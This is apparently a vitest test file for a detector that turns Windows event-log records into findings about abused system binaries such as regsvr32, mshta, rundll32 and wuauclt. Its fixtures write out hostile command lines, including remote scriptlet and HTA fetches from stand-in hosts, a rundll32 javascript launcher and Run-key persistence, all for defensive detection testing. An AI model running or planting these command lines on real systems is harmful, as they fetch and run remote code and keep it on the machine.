import { describe, expect, it } from "vitest";
import { anEvent, aStart, testCatalog } from "../../test/support/events.ts";
import { fromPlain, toPlain } from "../events/plain.ts";
import type { Event } from "../model/event.ts";
import { createDetector } from "./detector.ts";

const S32 = "C:\\Windows\\System32\\";

function find(events: readonly Event[], minLevel: "informational" | "low" | "medium" = "low") {
  const detector = createDetector({ catalog: testCatalog(), minLevel });
  return [...events.flatMap((event) => detector.push(event)), ...detector.end()];
}

describe("one finding for one process start", () => {
  it("names payload, technique and source", () => {
    const start = aStart(0, "A", `${S32}regsvr32.exe`, "regsvr32 /s /i:http://files.example.net/a.sct scrobj.dll");
    const [finding, ...rest] = find([start]);
    expect(rest).toEqual([]);
    expect(finding).toMatchObject({
      schema: "whatran/finding/1",
      time: "2024-05-02T09:00:00.000Z",
      host: "PC1",
      binary: { name: "regsvr32.exe" },
      behaviour: "windows/regsvr32/scriptlet",
      techniques: ["T1218.010"],
      runs: [{ what: "scriptlet", where: "web", value: "http://files.example.net/a.sct", remote: true }],
      source: { file: "log.evtx", index: start.record.index },
    });
    expect(["high", "critical"]).toContain(finding?.level);
  });

  it("keeps its id wherever the file lies, and does not give it to another process", () => {
    const line = "regsvr32 /s /i:http://files.example.net/a.sct scrobj.dll";
    const a = aStart(0, "A", `${S32}regsvr32.exe`, line);
    const plain = toPlain(a);
    const moved = fromPlain({ ...plain, record: { ...plain.record, file: "/elsewhere/log.evtx" } });
    const b = aStart(0, "B", `${S32}regsvr32.exe`, line);
    expect(find([a])[0]?.id).toBe(find([moved])[0]?.id);
    expect(find([a])[0]?.id).not.toBe(find([b])[0]?.id);
  });

  it("is silent about a log without arguments", () => {
    expect(
      find([
        anEvent("processCreation", 0, {
          image: `${S32}rundll32.exe`,
          process: { pid: 4, image: `${S32}rundll32.exe` },
        }),
      ]),
    ).toEqual([]);
  });

  it("takes the same start from a second source as the same", () => {
    const image = `${S32}regsvr32.exe`;
    const line = "regsvr32 /s C:\\ProgramData\\a.dll";
    const sysmon = aStart(0, "A", image, line);
    const security = anEvent(
      "processCreation",
      0.4,
      { image, commandLine: line, process: { pid: 65, image }, parent: { pid: 1 } },
      { provider: "Microsoft-Windows-Security-Auditing", eventId: 4688 },
    );
    const findings = find([sysmon, security]);
    expect(findings).toHaveLength(1);
    expect(findings[0]?.related).toEqual([expect.objectContaining({ index: security.record.index, role: "same" })]);
  });

  it("prefers the source that names the original file, whichever comes first", () => {
    const image = "C:\\Users\\Public\\chat.exe";
    const line = "chat /s C:\\ProgramData\\a.dll";
    const provider = { provider: "Microsoft-Windows-Security-Auditing", eventId: 4688 };
    const security = anEvent(
      "processCreation",
      0,
      { image, commandLine: line, process: { pid: 65, image }, parent: { pid: 1 } },
      provider,
    );
    const sysmon = aStart(0.4, "A", image, line, "?", { originalFileName: "REGSVR32.EXE" });
    const findings = find([security, sysmon]);
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({
      source: { index: sysmon.record.index },
      related: [{ index: security.record.index, role: "same" }],
    });
  });
});

describe("lineage", () => {
  it("gives the finding of a wrapper to the child that is logged too", () => {
    const outer = aStart(0, "A", `${S32}cmd.exe`, "cmd /c regsvr32 /s C:\\ProgramData\\a.dll");
    const inner = aStart(1, "B", `${S32}regsvr32.exe`, "regsvr32 /s C:\\ProgramData\\a.dll", "A");
    const findings = find([outer, inner]);
    expect(findings).toHaveLength(1);
    expect(findings[0]?.source.index).toBe(inner.record.index);
    expect(findings[0]?.related).toEqual([expect.objectContaining({ index: outer.record.index, role: "wrapper" })]);
  });

  it("reports the wrapper itself where the child is not logged", () => {
    const [finding] = find([aStart(0, "A", `${S32}cmd.exe`, "cmd /c regsvr32 /s C:\\ProgramData\\a.dll")]);
    expect(finding?.behaviour).toBe("windows/regsvr32/register");
    expect(finding?.binary.name).toBe("regsvr32.exe");
  });

  it("joins control, rundll32 and its twin to one act", () => {
    const cpl = "C:\\Users\\a\\Downloads\\t.cpl";
    const first = aStart(0, "A", `${S32}control.exe`, `control "${cpl}",`);
    const second = aStart(1, "B", `${S32}rundll32.exe`, `rundll32 Shell32.dll,Control_RunDLL "${cpl}",`, "A");
    const third = aStart(
      2,
      "C",
      "C:\\Windows\\SysWOW64\\rundll32.exe",
      `rundll32 "C:\\Windows\\SysWOW64\\shell32.dll",#44 "${cpl}",`,
      "B",
    );
    const findings = find([first, second, third]);
    expect(findings).toHaveLength(1);
    expect(findings[0]?.source.index).toBe(first.record.index);
    expect(findings[0]?.related.map(({ index, role }) => [index, role])).toEqual([
      [second.record.index, "step"],
      [third.record.index, "step"],
    ]);
  });

  it("takes rundll32 for the first step where nothing stands before it", () => {
    const cpl = "C:\\PROGRA~3\\X~1.DLL";
    const first = aStart(0, "B", `${S32}rundll32.exe`, `rundll32 shell32.dll,Control_RunDLL ${cpl} 42`);
    const line = `"C:\\Windows\\SysWOW64\\rundll32.exe" "C:\\Windows\\SysWOW64\\shell32.dll",#44 ${cpl} 42`;
    const second = aStart(1, "C", "C:\\Windows\\SysWOW64\\rundll32.exe", line, "B");
    const late = aStart(70, "D", "C:\\Windows\\SysWOW64\\rundll32.exe", line, "B");
    const findings = find([first, second, late]);
    expect(findings.map(({ source }) => source.index)).toEqual([first.record.index, late.record.index]);
    expect(findings[0]?.related).toContainEqual(expect.objectContaining({ index: second.record.index, role: "step" }));
  });

  it("leaves out what the child says where the wrapper wraps several", () => {
    const outer = aStart(0, "A", `${S32}cmd.exe`, "cmd /c rundll32 C:\\ProgramData\\a.dll,Run");
    const inner = aStart(1, "B", `${S32}rundll32.exe`, "rundll32 C:\\ProgramData\\a.dll,Run", "A");
    const twice = find([outer, inner, inner]);
    expect(twice).toHaveLength(1);
    expect(twice[0]?.related).toEqual([expect.objectContaining({ index: outer.record.index, role: "wrapper" })]);
  });

  it("says of a parent that is not in the log nothing that its child says by itself", () => {
    const inner = "mshta http://203.0.113.5/x.hta";
    const child = (parentCommandLine: string, image: string) =>
      aStart(0, "B", `${S32}mshta.exe`, inner, "A", { parent: { key: "id:A", image }, parentCommandLine });
    expect(find([child(`cmd /c ${inner}`, `${S32}cmd.exe`)])).toHaveLength(1);
    const script = `rundll32 javascript:"\\..\\mshtml,RunHTMLApplication ";new ActiveXObject("WScript.Shell").Run("${inner}")`;
    expect(find([child(script, `${S32}rundll32.exe`)]).map(({ behaviour }) => behaviour)).toEqual([
      "windows/mshta/remote-application",
      "windows/rundll32/script",
    ]);
  });

  it("judges a parent that is not in the log by what its child's event says", () => {
    const child = aStart(0, "B", `${S32}cmd.exe`, "cmd.exe", "A", {
      parent: { key: "id:A", image: `${S32}mshta.exe` },
      parentCommandLine: "mshta http://203.0.113.5/x.hta",
    });
    const [finding] = find([child], "medium");
    expect(finding).toMatchObject({
      behaviour: "windows/mshta/remote-application",
      source: { index: child.record.index },
    });
  });
});

it("tells once what one record says twice", () => {
  const line = "mshta.exe http://203.0.113.5/x.hta";
  const path = "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x";
  const write = anEvent("registryKeyModification", 0, {
    path,
    value: line,
    action: "setValue",
    process: { key: "id:R" },
  });
  const record = { index: write.record.index, recordId: write.record.recordId };
  const entry = anEvent(
    "runKey",
    0,
    { path, name: "x", commandLine: line, dialect: "commandLine", process: {} },
    record,
  );
  expect(find([write, entry])).toHaveLength(1);
});

describe("effects of a binary whose start is not logged", () => {
  const process = { key: "id:Z", pid: 9, image: `${S32}regsvr32.exe` };
  const path = "HKLM\\Software\\Classes\\CLSID\\{1}\\InprocServer32\\(Default)";
  const write = (value: string) => anEvent("registryKeyModification", 0, { process, path, action: "setValue", value });
  it("are a finding where the library lies in an odd place, once", () => {
    const findings = find([write("D:\\drop\\a.dll"), write("D:\\drop\\a.dll")], "medium");
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({
      behaviour: "windows/regsvr32/register",
      runs: [{ value: "D:\\drop\\a.dll", what: "library" }],
    });
  });
  it("are none where software is installed, or where the start is known", () => {
    expect(find([write("C:\\Program Files\\V\\a.dll")])).toEqual([]);
    const start = aStart(0, "Z", `${S32}regsvr32.exe`, "regsvr32 /s D:\\drop\\a.dll");
    expect(find([start, write("D:\\drop\\a.dll")])).toHaveLength(1);
  });
});

describe("corroboration", () => {
  const dll = "C:\\ProgramData\\a.dll";
  const start = () => aStart(10, "A", `${S32}regsvr32.exe`, `regsvr32 /s ${dll}`);
  const process = { key: "id:A", image: `${S32}regsvr32.exe` };
  const ids = (events: readonly Event[]) => find(events)[0]?.evidence.map(({ id }) => id);

  it("sees the payload loaded, and that it is not signed", () => {
    const load = (signed: boolean) =>
      anEvent("moduleLoad", 11, {
        process,
        module: dll,
        signature: { signed, status: signed ? "Valid" : "Unavailable" },
      });
    expect(ids([start(), load(false)])).toContain("payload-loaded-unsigned");
    expect(ids([start(), load(true)])).toContain("payload-loaded-signed");
    const other = anEvent("moduleLoad", 11, { process, module: `${S32}kernel32.dll` });
    expect(ids([start(), other])?.filter((id) => id.startsWith("payload-"))).toEqual([]);
  });

  it("sees who dropped the payload shortly before", () => {
    const drop = (at: number) =>
      anEvent("fileCreation", at, {
        path: dll,
        action: "create",
        process: { key: "id:W", image: "C:\\Office\\winword.exe" },
      });
    expect(ids([drop(-30), start()])).toContain("payload-dropped");
    expect(ids([drop(-4000), start()])).not.toContain("payload-dropped");
  });

  it("takes back that a use is documented where no such use goes on like this", () => {
    const image = `${S32}InfDefaultInstall.exe`;
    const explorer = { parent: { key: "id:X", pid: 88, image: "C:\\Windows\\explorer.exe" } };
    const install = aStart(0, "I", image, "InfDefaultInstall.exe C:\\Users\\a\\Downloads\\d\\a.inf", "X", explorer);
    const script = anEvent("moduleLoad", 1, { process: { key: "id:I", image }, module: `${S32}scrobj.dll` });
    expect(find([install], "medium")).toEqual([]);
    expect(find([install, script], "medium")).toHaveLength(1);
  });

  it("sees connections to the outside only", () => {
    const to = (destinationIp: string) => anEvent("networkConnection", 12, { process, initiated: true, destinationIp });
    expect(ids([start(), to("203.0.113.9")])).toContain("external-connection");
    expect(ids([start(), to("10.1.2.3")])).not.toContain("external-connection");
  });
});

it("weighs what a service runs as it stops less than what it runs as it starts", () => {
  const job = (trigger: string) =>
    anEvent("scheduledTask", 0, {
      name: "filter.service",
      commandLine: "/usr/sbin/nft flush ruleset",
      dialect: "sh",
      platform: "linux",
      trigger,
    });
  const [[atStart], [atStop]] = [find([job("multi-user.target")]), find([job("when stopped")])];
  expect([atStart?.level, atStop?.level]).toEqual(["medium", "low"]);
  expect(atStop?.evidence.map(({ text }) => text)).toContain("A service named filter.service runs it as it stops.");
});

it("finds the Lazarus Group's shortcut: wuauclt with a library, in a Startup folder", () => {
  const path =
    "C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\WindowsUpdateConf.lnk";
  const shortcut = anEvent("shortcut", 0, {
    path,
    target: `${S32}wuauclt.exe`,
    arguments: "/UpdateDeploymentProvider C:\\Wíndows\\system32\\wuaueng.dll /RunHandlerComServer",
    startup: true,
    oddities: [],
  });
  const [finding] = find([shortcut]);
  expect(finding).toMatchObject({ behaviour: "windows/wuauclt/load-library", dataComponents: ["File Metadata"] });
  expect(finding?.evidence.map(({ id }) => id)).toContain("persistence");
  expect(["high", "critical"]).toContain(finding?.level);
});

it("tells of a service once, however late a copy of its record comes", () => {
  const service = (file: string) =>
    anEvent(
      "registryKeyModification",
      0,
      {
        path: "HKLM\\System\\CurrentControlSet\\Services\\x\\ImagePath",
        action: "setValue",
        value: "rundll32.exe C:\\ProgramData\\a.dll,Go",
      },
      { file, recordId: 7 },
    );
  const later = anEvent("fileCreation", 4000, { path: "C:\\a.txt", action: "create", process: { key: "id:W" } });
  expect(find([service("a.evtx"), later, service("b.evtx")])).toHaveLength(1);
});
